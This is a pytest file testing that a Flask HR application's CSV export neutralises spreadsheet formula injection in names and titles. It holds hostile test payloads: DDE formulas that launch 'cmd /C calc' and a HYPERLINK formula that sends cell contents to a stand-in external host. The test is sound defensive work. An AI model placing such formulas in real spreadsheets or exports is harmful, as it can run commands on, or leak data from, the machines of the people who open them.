"""What people typed never becomes a formula in a file that a spreadsheet opens, and stays readable."""

import csv
import io
from collections.abc import Callable

import pytest
from flask.testing import FlaskClient

from learning.reporting.duty_list.spreadsheets import BYTE_ORDER_MARK, safe_cell
from tests import factories
from tests.learning.reporting.house import House

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    '=HYPERLINK("https://fremd.example/?x="&A1;"Hier")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1',
    "=1;=2",
    "＝1+1",
    "=1\r\n=2",
    'DDE("cmd";"/C calc";"!A0")',
)


@pytest.mark.parametrize("start", STARTS)
def test_no_start_of_a_formula_is_left_active(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(f"a{start}") == f"a{start}"


def test_hostile_names_and_titles_are_text_in_the_export(client: FlaskClient, house: House, sign_in: Callable) -> None:
    house.course()
    for number, formula in enumerate(FORMULAS):
        person = factories.person(house.session, unit=house.up, hr_key=f"{formula[:40]} {number}")
        person.given_name, person.family_name = formula, formula[::-1]
    house.up.name = "=Einheit"
    house.session.commit()
    house.rule("@Pflicht")
    sign_in(client, house.hr)
    text = client.get("/personal/liste.csv").get_data().decode().removeprefix(BYTE_ORDER_MARK)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len({len(row) for row in rows}) == 1
    assert [cell for row in rows for cell in row if cell.startswith(STARTS)] == []
    given = {row[2].removeprefix("'") for row in rows[1:]}
    assert set(FORMULAS) <= given
    assert {row[3] for row in rows[1:]} == {"'=Einheit", "Team 1"}
    assert {row[4] for row in rows[1:]} == {"'@Pflicht"}
